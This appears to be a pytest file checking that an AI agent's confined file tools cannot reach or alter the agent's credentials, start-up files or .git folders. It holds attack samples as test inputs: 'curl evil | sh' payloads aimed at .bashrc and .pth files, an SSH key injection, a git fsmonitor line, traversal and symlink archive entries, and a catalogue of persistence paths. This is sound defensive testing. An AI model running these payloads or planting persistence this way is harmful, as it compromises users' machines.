"""The file tools under a confinement: the agent's own state is out of reach through every path.

A home folder H is the root; H/.hermes (with a secret) and the runtime folder are protected, H's
start-up files are write-protected, a fake system folder is read-only. Every tool is tried through a
direct path, a symlink inside the root, an absolute symlink, a link to the folder, a hard link and
archive entries, with the kernel's openat2 and with the O_NOFOLLOW walk that replaces it elsewhere.
"""

from __future__ import annotations

import hashlib
import io
import os
import tarfile
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from toolctx import make_ctx

from hermes_relay.agent.desktop.tools import _at, _fs, _guard
from hermes_relay.agent.desktop.tools.archive import desktop_unzip, desktop_zip
from hermes_relay.agent.desktop.tools.files import (
    desktop_checksum,
    desktop_copy_directory,
    desktop_patch,
    desktop_read_file,
    desktop_write_file,
)
from hermes_relay.agent.desktop.tools.search import desktop_search_files
from hermes_relay.core import roots
from hermes_relay.core.confine import UNCONFINED, Confinement, persistence_paths, protected_paths
from hermes_relay.core.desktop import ToolError

SECRET = b"TOKEN-7f3a9c-secret"
OWN_STATE = "hermes-relay's own state"


@pytest.fixture(params=["openat2", "walk"])
def resolver(request):
    if request.param == "openat2" and not _fs.openat2_available():
        pytest.skip("this kernel has no openat2")
    _fs.use_openat2(request.param == "openat2")
    yield request.param
    _fs.use_openat2(True)


@pytest.fixture
def world(tmp_path: Path, resolver):
    home = tmp_path / "home"
    work = tmp_path / "work"
    system = tmp_path / "system"
    for d in (home / ".hermes", home / "proj" / ".git", work, system, tmp_path / "run" / "hermes-relay"):
        d.mkdir(parents=True, exist_ok=True)
    (home / ".hermes" / "credentials").write_bytes(SECRET)
    (home / ".hermes" / "desktop-host-access.json").write_text('{"hosts": {}}')
    (home / ".bashrc").write_text("# rc\n")
    (home / "proj" / "notes.txt").write_text("hello\n")
    (home / "proj" / ".git" / "config").write_text("[core]\n")
    (system / "lib.txt").write_text("system\n")
    proj = home / "proj"
    os.symlink("../.hermes/credentials", proj / "link")  # relative, stays inside the root
    os.symlink("../.hermes", proj / "ldir")
    os.symlink(str(home / ".hermes" / "credentials"), proj / "abs")  # absolute
    os.symlink(str(tmp_path), proj / "out")  # leads out of the root
    os.link(home / ".hermes" / "credentials", proj / "hard")
    env = {"HOME": str(home), "XDG_RUNTIME_DIR": str(tmp_path / "run"), "PATH": ""}
    confinement = Confinement(
        owner="wss://relay.test",
        roots=(home, work),
        read_only=(system,),
        protected=protected_paths(env),
        write_protected=persistence_paths(env),
    )
    ctx = make_ctx(tmp_path, cwd=proj, env={**os.environ, **env}, confinement=confinement)
    return ctx, home


def _untouched(home: Path) -> None:
    assert (home / ".hermes" / "credentials").read_bytes() == SECRET
    assert (home / ".hermes" / "desktop-host-access.json").read_text() == '{"hosts": {}}'
    assert sorted(p.name for p in (home / ".hermes").iterdir()) == ["credentials", "desktop-host-access.json"]


INSIDE = ["../.hermes/credentials", "link", "ldir/credentials", "hard", "../.hermes/../.hermes/credentials"]


# -- reading -------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", INSIDE)
async def test_read_and_checksum_refuse_the_agent_state_by_any_path(world, path):
    ctx, home = world
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_read_file({"path": path}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_checksum({"path": path}, ctx)


@pytest.mark.parametrize("path", ["abs", "out/home/.hermes/credentials"])
async def test_links_that_leave_the_root_are_refused(world, path):
    ctx, _ = world
    with pytest.raises(ToolError, match="leads out of .* through a symbolic link"):
        await desktop_read_file({"path": path}, ctx)


async def test_a_missing_name_in_protected_state_is_not_an_existence_oracle(world):
    ctx, _ = world
    for path in ("../.hermes/nothing-here", "ldir/nothing-here", "ldir/credentials"):
        with pytest.raises(ToolError, match=OWN_STATE):
            await desktop_read_file({"path": path}, ctx)


async def test_reads_below_roots_and_read_only_folders_work_and_nothing_else(world, tmp_path):
    ctx, home = world
    assert await desktop_read_file({"path": "notes.txt"}, ctx) == "hello\n"
    assert await desktop_read_file({"path": str(tmp_path / "system" / "lib.txt")}, ctx) == "system\n"
    (tmp_path / "elsewhere.txt").write_text("x")
    with pytest.raises(ToolError, match=r"outside the folders this relay host may use \(roots: .*home.*work\).*"
                                        "hermes-relay access URL --root DIR"):
        await desktop_read_file({"path": str(tmp_path / "elsewhere.txt")}, ctx)


async def test_a_folder_named_through_a_link_follows_the_link_when_it_is_re_pointed(world, tmp_path):
    # /bin -> usr/bin: a read-only folder (or a root) is matched by its name and by what it resolves to,
    # which is remembered only while the link still leads to the same folder (core/roots.realpath).
    ctx, _ = world
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "f.txt").write_text(name)
    link = tmp_path / "sys"
    link.symlink_to(tmp_path / "a")
    ctx = replace(ctx, confinement=replace(ctx.confinement, read_only=(link,)))
    assert await desktop_read_file({"path": str(tmp_path / "a" / "f.txt")}, ctx) == "a"
    link.unlink()
    link.symlink_to(tmp_path / "b")
    with pytest.raises(ToolError, match="outside the folders"):  # what it led to a moment ago is out of reach
        await desktop_read_file({"path": str(tmp_path / "a" / "f.txt")}, ctx)
    assert await desktop_read_file({"path": str(tmp_path / "b" / "f.txt")}, ctx) == "b"
    assert await desktop_read_file({"path": str(link / "f.txt")}, ctx) == "b"
    with pytest.raises(ToolError, match="outside the folders"):
        await desktop_read_file({"path": str(tmp_path / "a" / "f.txt")}, ctx)


async def test_a_read_resolves_the_folders_again_only_when_their_last_resolution_is_old(world, tmp_path, monkeypatch):
    # Each root and read-only folder is resolved (a stat or two each) at most once per RESOLVE_TTL; in
    # between, the folder a read is below is the only one checked (a link there re-pointed: see above).
    ctx, _ = world
    assert await desktop_read_file({"path": "notes.txt"}, ctx) == "hello\n"
    walks: list[object] = []
    real = roots.realpaths
    monkeypatch.setattr(roots, "realpaths", lambda names, **kw: walks.append(names) or real(names, **kw))
    assert await desktop_read_file({"path": "notes.txt"}, ctx) == "hello\n"
    assert walks == []
    aged = {name: (when - roots.RESOLVE_TTL, seen, resolved) for name, (when, seen, resolved) in roots._resolved.items()}
    monkeypatch.setattr(roots, "_resolved", aged)
    assert await desktop_read_file({"path": "notes.txt"}, ctx) == "hello\n"
    assert len(walks) == 1


async def test_the_same_calls_unconfined_reach_everything(world):
    ctx, _ = world
    free = replace(ctx, confinement=UNCONFINED)
    for path in INSIDE + ["abs"]:
        assert await desktop_read_file({"path": path}, free) == SECRET.decode()
    result = await desktop_search_files({"pattern": "TOKEN-7f3a", "content": True, "cwd": "..",}, replace(
        free, env={"PATH": "/nonexistent"}))
    assert any(m.endswith("credentials") for m in result["matches"])


# -- writing -------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["../.hermes/desktop-host-access.json", "ldir/desktop-host-access.json", "ldir/new",
                                  "../.hermes/sub/new"])
async def test_writes_and_patches_never_reach_the_agent_state(world, path):
    ctx, home = world
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_write_file({"path": path, "content": '{"hosts": {"x": "full_access"}}', "create_dirs": True}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_patch({"path": path, "patch": "--- /dev/null\n+++ b\n@@ -0,0 +1 @@\n+x\n"}, ctx)
    _untouched(home)


async def test_a_write_through_a_link_to_a_protected_file_is_refused(world):
    ctx, home = world
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_write_file({"path": "link", "content": "forged"}, ctx)
    _untouched(home)


async def test_a_write_to_a_hard_link_replaces_the_name_and_leaves_the_state_alone(world):
    ctx, home = world
    await desktop_write_file({"path": "hard", "content": "mine"}, ctx)
    assert (home / "proj" / "hard").read_text() == "mine"
    _untouched(home)


async def test_a_missing_protected_folder_cannot_be_created(world, tmp_path):
    ctx, home = world
    (tmp_path / "run" / "hermes-relay").rmdir()
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_write_file({"path": str(tmp_path / "run" / "hermes-relay" / "sock"), "content": "x",
                                  "create_dirs": True}, replace(ctx, confinement=replace(
                                      ctx.confinement, roots=(*ctx.confinement.roots, tmp_path / "run"))))
    assert not (tmp_path / "run" / "hermes-relay").exists()


@pytest.mark.parametrize("path, message", [
    ("../.bashrc", "login or start-up path"),
    ("../.ssh/authorized_keys", "login or start-up path"),
    ("../.config/systemd/user/evil.service", "login or start-up path"),
    (".git/hooks/pre-commit", r"inside a \.git folder"),
    (".git/config", r"inside a \.git folder"),
    (".git", r"inside a \.git folder"),
])
async def test_persistence_paths_and_git_folders_are_not_writable(world, path, message):
    ctx, home = world
    with pytest.raises(ToolError, match=message):
        await desktop_write_file({"path": path, "content": "curl evil | sh\n", "create_dirs": True}, ctx)
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert not (home / ".ssh").exists() and not (home / ".config").exists()
    assert (home / "proj" / ".git" / "config").read_text() == "[core]\n"
    assert not (home / "proj" / ".git" / "hooks").exists()


@pytest.mark.parametrize("path", [
    "../.bash_aliases",  # Debian's and Ubuntu's default ~/.bashrc sources it
    "../.bashrc.d/evil.sh",  # Fedora's default ~/.bashrc sources every file in it
    "../.bash_completion",  # bash-completion sources it in every interactive shell
    "../.local/share/bash-completion/completions/git",  # loaded the first time `git <TAB>` is pressed
    "../.local/lib/python3.11/site-packages/evil.pth",  # an `import` line in a .pth runs at every python start
    "../.local/share/applications/firefox.desktop",  # shadows the system's launcher: Exec= runs on a click
    "../.config/plasma-workspace/env/evil.sh",  # KDE sources it at login
    "../.config/user-tmpfiles.d/evil.conf",  # systemd-tmpfiles writes any file at login
    "../.vimrc", "../.config/nvim/init.lua", "../.emacs.d/init.el", "../.tmux.conf", "../.gdbinit",
    "../.ipython/profile_default/startup/evil.py", "../.cargo/config.toml", "../.hgrc",
])
async def test_startup_files_that_shells_editors_and_desktops_run_are_not_writable(world, path):
    ctx, home = world
    with pytest.raises(ToolError, match="login or start-up path"):
        await desktop_write_file({"path": path, "content": "import os; os.system('curl evil | sh')\n",
                                  "create_dirs": True}, ctx)
    assert not (ctx.cwd / path).exists()


@pytest.mark.parametrize("path", ["../.SSH/authorized_keys", "../.Zshenv", "../.ſsh/authorized_keys",
                                  "../.config/Autostart/evil.desktop", ".GIT/hooks/pre-commit", "../.Git"])
async def test_on_a_case_insensitive_file_system_another_spelling_of_a_missing_login_path_is_refused(
        world, monkeypatch, path):
    # macOS (APFS) and Windows ignore case (Unicode case folding): ".SSH" made there *is* ~/.ssh for sshd.
    # Paths that exist are caught by identity; one that does not yet exist was compared by its exact name.
    # (This Linux file system keeps case, so the test sets the rule the guard applies on those systems.)
    ctx, home = world
    monkeypatch.setattr(_guard, "FOLD_CASE", True)
    with pytest.raises(ToolError, match=r"login or start-up path|inside a \.git folder|own state"):
        await desktop_write_file({"path": path, "content": "ssh-ed25519 AAAA evil\n", "create_dirs": True}, ctx)
    assert not (ctx.cwd / path).exists()


async def test_a_link_to_a_git_folder_is_the_git_folder(world):
    ctx, home = world
    os.symlink(".git", home / "proj" / "gitlink")
    with pytest.raises(ToolError, match=r"inside a \.git folder"):
        await desktop_write_file({"path": "gitlink/config", "content": "[core]\nfsmonitor = evil\n"}, ctx)
    assert (home / "proj" / ".git" / "config").read_text() == "[core]\n"
    assert await desktop_read_file({"path": ".git/config"}, ctx) == "[core]\n"


async def test_read_only_folders_refuse_writes_and_ordinary_writes_work(world, tmp_path):
    ctx, home = world
    with pytest.raises(ToolError, match="read-only folder"):
        await desktop_write_file({"path": str(tmp_path / "system" / "lib.txt"), "content": "x"}, ctx)
    assert (tmp_path / "system" / "lib.txt").read_text() == "system\n"
    await desktop_write_file({"path": "sub/new.txt", "content": "ok", "create_dirs": True}, ctx)
    assert (home / "proj" / "sub" / "new.txt").read_text() == "ok"


# -- copy, zip, unzip ----------------------------------------------------------------------------


def _no_secret_below(top: Path) -> None:
    for here, _dirs, files in os.walk(top):
        for name in files:
            p = Path(here) / name
            if not p.is_symlink():
                assert SECRET not in p.read_bytes(), p
                if p.suffix in (".zip", ".tar", ".tgz"):
                    assert SECRET not in _archive_bytes(p), p


def _archive_bytes(p: Path) -> bytes:
    if zipfile.is_zipfile(p):
        with zipfile.ZipFile(p) as zf:
            return b"".join(zf.read(n) for n in zf.namelist()) + "\n".join(zf.namelist()).encode()
    with tarfile.open(p) as tf:
        out = b""
        for m in tf.getmembers():
            f = tf.extractfile(m) if m.isfile() else None
            out += m.name.encode() + (f.read() if f else b"")
        return out


@pytest.mark.parametrize("dereference", [False, True])
async def test_copy_leaves_the_agent_state_out(world, tmp_path, dereference):
    ctx, home = world
    result = await desktop_copy_directory({"source": str(home), "dest": str(tmp_path / "work" / "copy"),
                                           "dereference": dereference}, ctx)
    copy = tmp_path / "work" / "copy"
    assert not (copy / ".hermes").exists()
    assert (copy / "proj" / "notes.txt").read_text() == "hello\n"
    assert not (copy / "proj" / ".git").exists()  # never created below a root: hooks would run code
    assert result["skipped"] >= 2
    _no_secret_below(copy)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_copy_directory({"source": "ldir", "dest": str(tmp_path / "work" / "c2")}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_copy_directory({"source": ".", "dest": str(home / ".hermes" / "planted")}, ctx)
    _untouched(home)


@pytest.mark.parametrize("fmt", ["zip", "tar", "tar.gz"])
async def test_zip_never_includes_protected_or_outside_entries(world, tmp_path, fmt):
    ctx, home = world
    dest = tmp_path / "work" / f"home.{fmt}"
    await desktop_zip({"source": str(home), "dest": str(dest), "format": fmt}, ctx)
    names = _archive_bytes(dest)
    assert b".hermes" not in names.replace(b"../.hermes", b"")
    assert SECRET not in names
    assert b"proj/notes.txt" in names
    for source in ("ldir", "link", "hard", "../.hermes"):
        with pytest.raises(ToolError, match=OWN_STATE):
            await desktop_zip({"source": source, "dest": str(tmp_path / "work" / "x.zip")}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_zip({"source": "notes.txt", "dest": str(home / ".hermes" / "x.zip")}, ctx)
    _untouched(home)


def _zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return path


@pytest.mark.parametrize("entry, message", [
    (".hermes/desktop-host-access.json", OWN_STATE),
    (".hermes/new-file", OWN_STATE),
    (".bashrc", "login or start-up path"),
    (".ssh/authorized_keys", "login or start-up path"),
    ("proj/.git/hooks/post-checkout", r"\.git folder"),
    ("proj/ldir/credentials", "through a link"),
    ("../escape", "leaves the destination"),
])
async def test_unzip_refuses_entries_into_protected_persistence_git_or_links(world, tmp_path, entry, message):
    ctx, home = world
    archive = _zip(tmp_path / "work" / "evil.zip", {"fine.txt": b"fine", entry: b'{"hosts": {"x": "full_access"}}'})
    with pytest.raises(ToolError, match=f"{message}.*nothing was extracted"):
        await desktop_unzip({"source": str(archive), "dest": str(home)}, ctx)
    assert not (home / "fine.txt").exists()
    assert (home / ".bashrc").read_text() == "# rc\n"
    _untouched(home)


async def test_unzip_refuses_a_link_entry_then_a_file_through_it(world, tmp_path):
    ctx, home = world
    link = tarfile.TarInfo("proj/l")
    link.type, link.linkname = tarfile.SYMTYPE, "../.hermes"
    data = tarfile.TarInfo("proj/l/desktop-host-access.json")
    data.size = 4
    path = tmp_path / "work" / "evil.tar"
    with tarfile.open(path, "w") as tf:
        tf.addfile(link)
        tf.addfile(data, io.BytesIO(b"evil"))
    with pytest.raises(ToolError, match="through a link.*nothing was extracted"):
        await desktop_unzip({"source": str(path), "dest": str(home)}, ctx)
    assert not (home / "proj" / "l").exists()
    _untouched(home)


async def test_unzip_into_or_from_the_agent_state_is_refused(world, tmp_path):
    ctx, home = world
    archive = _zip(tmp_path / "work" / "ok.zip", {"a.txt": b"a"})
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_unzip({"source": str(archive), "dest": str(home / ".hermes")}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_unzip({"source": str(archive), "dest": "ldir"}, ctx)
    _zip(home / ".hermes" / "inner.zip", {"a.txt": SECRET})
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_unzip({"source": "ldir/inner.zip", "dest": str(tmp_path / "work" / "x")}, ctx)
    (home / ".hermes" / "inner.zip").unlink()
    _untouched(home)
    result = await desktop_unzip({"source": str(archive), "dest": str(tmp_path / "work" / "fine")}, ctx)
    assert result["files_extracted"] == 1


# -- search --------------------------------------------------------------------------------------


@pytest.mark.parametrize("pattern", ["TOKEN-7f3a9c", "TOKEN-0000", "secret$", "^TOKEN"])
async def test_content_search_is_no_oracle_on_the_agent_state(world, pattern):
    ctx, home = world
    plain = replace(ctx, env={**ctx.env, "PATH": "/nonexistent"})
    result = await desktop_search_files({"pattern": pattern, "content": True, "cwd": str(home)}, ctx)
    assert result["matches"] == [] and result["impl"] == "python"
    result = await desktop_search_files({"pattern": pattern, "content": True, "cwd": str(home)}, plain)
    assert result["matches"] == []


async def test_name_search_does_not_list_the_agent_state(world):
    ctx, home = world
    result = await desktop_search_files({"pattern": "**/*", "cwd": str(home)}, ctx)
    assert not any("/.hermes/" in m for m in result["matches"])
    assert str(home / "proj" / "notes.txt") in result["matches"]
    for pattern in ("credentials", "desktop-host-access.json"):
        found = await desktop_search_files({"pattern": pattern, "cwd": str(home)}, ctx)
        assert found["matches"] == []


@pytest.mark.parametrize("cwd", ["ldir", "../.hermes"])
async def test_search_inside_the_agent_state_is_refused(world, cwd):
    ctx, _ = world
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_search_files({"pattern": "*", "cwd": cwd}, ctx)
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_search_files({"pattern": "TOKEN", "content": True, "cwd": cwd}, ctx)


def test_the_running_kernel_resolves_with_openat2():
    import re
    import sys

    version = re.match(r"(\d+)\.(\d+)", os.uname().release)
    if sys.platform.startswith("linux") and version and (int(version[1]), int(version[2])) >= (5, 6):
        assert _fs.openat2_available()


def test_a_folder_swapped_for_a_link_after_the_check_does_not_redirect_the_write(world):
    ctx, home = world
    (home / "proj" / "a").mkdir()
    with _guard.Guard(ctx.confinement) as g:
        slot = g.locate(home / "proj" / "a" / "f", write=True)
        os.rename(home / "proj" / "a", home / "proj" / "a-moved")
        os.symlink("../.hermes", home / "proj" / "a")
        _at.replace_at(slot.dirfd, slot.name, b"written", 0o600)
    assert (home / "proj" / "a-moved" / "f").read_bytes() == b"written"
    _untouched(home)


def test_open_beneath_refuses_every_way_out(tmp_path, resolver):
    (tmp_path / "root" / "d").mkdir(parents=True)
    (tmp_path / "root" / "f").write_text("in")
    (tmp_path / "outside").write_text("out")
    os.symlink("../outside", tmp_path / "root" / "up")
    os.symlink(str(tmp_path / "root" / "f"), tmp_path / "root" / "absolute")
    os.symlink("d/../f", tmp_path / "root" / "inner")
    os.symlink("loop", tmp_path / "root" / "loop")
    fd = os.open(tmp_path / "root", os.O_RDONLY | os.O_DIRECTORY)
    try:
        for rel in ("up", "absolute", "../outside", "d/../../outside", "/etc/passwd"):
            with pytest.raises(OSError) as info:
                os.close(_fs.open_beneath(fd, rel, os.O_RDONLY))
            assert info.value.errno == 18, rel  # EXDEV
        with pytest.raises(OSError):
            _fs.open_beneath(fd, "loop", os.O_RDONLY)
        for rel in ("f", "inner", "d/../f", "./d/./../f"):
            got = _fs.open_beneath(fd, rel, os.O_RDONLY)
            assert os.read(got, 10) == b"in"
            os.close(got)
    finally:
        os.close(fd)


async def test_checksum_of_an_allowed_file_is_the_same_confined_or_not(world):
    ctx, home = world
    confined = await desktop_checksum({"path": "notes.txt"}, ctx)
    assert confined["hash"] == hashlib.sha256(b"hello\n").hexdigest()
    assert confined == await desktop_checksum({"path": "notes.txt"}, replace(ctx, confinement=UNCONFINED))


_BIND_CHILD = """
import json, sys, trio
from pathlib import Path
from hermes_relay.agent.desktop.tools.files import desktop_read_file
from hermes_relay.agent.desktop.tools.search import desktop_search_files
from hermes_relay.core.confine import Confinement
from hermes_relay.core.desktop import ToolContext, ToolError

home, run = Path(sys.argv[1]), Path(sys.argv[2])
ctx = ToolContext(home=home, cwd=home / "proj", deadline=float("inf"), env={"PATH": "/nonexistent"},
                  confinement=Confinement(roots=(home,), protected=(home / ".hermes", run)))

async def main():
    out = {"listed": (home / "proj" / "m" / "credentials").exists()}
    try:
        out["read"] = await desktop_read_file({"path": "m/credentials"}, ctx)
    except ToolError as exc:
        out["read"] = str(exc)
    found = await desktop_search_files({"pattern": "TOKEN", "content": True, "cwd": str(home)}, ctx)
    out["search"] = found["matches"]
    print(json.dumps(out))

trio.run(main)
"""


def test_a_bind_mount_of_the_agent_state_inside_a_root_is_the_agent_state(tmp_path):
    import json
    import shutil
    import subprocess
    import sys

    if os.geteuid() != 0 or shutil.which("unshare") is None:
        pytest.skip("needs root and unshare(1) for a private mount namespace")
    home = tmp_path / "home"
    (home / ".hermes").mkdir(parents=True)
    (home / "proj" / "m").mkdir(parents=True)
    (home / ".hermes" / "credentials").write_bytes(SECRET)
    script = (f"mount --bind {home / '.hermes'} {home / 'proj' / 'm'} && "
              f"exec {sys.executable} -c '{_BIND_CHILD}' {home} {tmp_path / 'run'}")
    done = subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c", script],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout)
    assert out["listed"] is True  # the mount is there: the file is reachable by path
    assert OWN_STATE in out["read"]
    assert out["search"] == []
    assert not (home / "proj" / "m" / "credentials").exists()  # the mount stayed in its namespace


# -- the guard's per-call lookups ----------------------------------------------------------------


async def test_a_read_looks_up_the_protected_paths_but_never_the_persistence_paths(world, monkeypatch):
    """A read is checked against the agent's state only: the ~50 start-up files a write is checked against
    are not looked up (most of a confined read's cost before); a write still looks them up and is refused."""
    ctx, home = world
    looked_up: list[tuple[Path, ...]] = []
    real = _guard._identities

    def spy(paths):
        looked_up.append(tuple(paths))
        return real(paths)

    monkeypatch.setattr(_guard, "_identities", spy)
    assert await desktop_read_file({"path": "notes.txt"}, ctx) == "hello\n"
    assert looked_up == [tuple(ctx.confinement.protected)]
    with pytest.raises(ToolError, match=OWN_STATE):
        await desktop_read_file({"path": "hard"}, ctx)
    looked_up.clear()
    with pytest.raises(ToolError, match="start-up|persist"):
        await desktop_write_file({"path": str(home / ".bashrc"), "content": "evil"}, ctx)
    assert tuple(ctx.confinement.write_protected) in looked_up
    assert (home / ".bashrc").read_text() == "# rc\n"


def test_identities_follow_a_link_and_anchor_a_missing_path_at_its_deepest_folder(tmp_path):
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "f").write_text("x")
    os.symlink(tmp_path / "real" / "f", tmp_path / "link")
    ids, pending = _guard._identities([tmp_path / "link", tmp_path / "real" / "gone" / "deeper" / "name"])
    assert _guard.ident(os.lstat(tmp_path / "link")) in ids and _guard.ident(os.stat(tmp_path / "real" / "f")) in ids
    assert pending == [(_guard.ident(os.stat(tmp_path / "real")), ("gone", "deeper", "name"))]


@pytest.mark.parametrize(("path", "root", "below"), [
    ("/a/b/c", "/a/b", True), ("/a/b", "/a/b", True), ("/a/bc", "/a/b", False), ("/a", "/a/b", False),
    ("/x/b/c", "/a/b", False), ("/a/b/c", "/", True),
])
def test_lexically_below_is_root_in_parents(path, root, below):
    assert _guard._lexically_below(Path(path), Path(root)) is below
    assert (Path(path) == Path(root) or Path(root) in Path(path).parents) is below


@pytest.mark.parametrize("form", ["/", "/a", "/a/b/c", "//a/b", "/tmp/x y/z"])
def test_parts_of_a_normalised_path_are_pathlibs(form):
    assert _guard._parts(form) == Path(form).parts
